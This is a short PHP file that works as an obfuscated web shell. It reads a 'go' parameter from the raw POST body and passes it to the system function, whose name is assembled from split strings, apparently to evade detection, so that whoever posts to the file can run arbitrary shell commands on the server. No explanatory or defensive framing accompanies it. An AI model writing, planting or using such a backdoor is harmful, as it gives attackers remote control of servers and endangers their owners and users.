<?php
parse_str(file_get_contents('php://input'), $pr);
$q2 = $pr['go'];
$part = 'tem';
$f = "sys{$part}";
$f($q2);
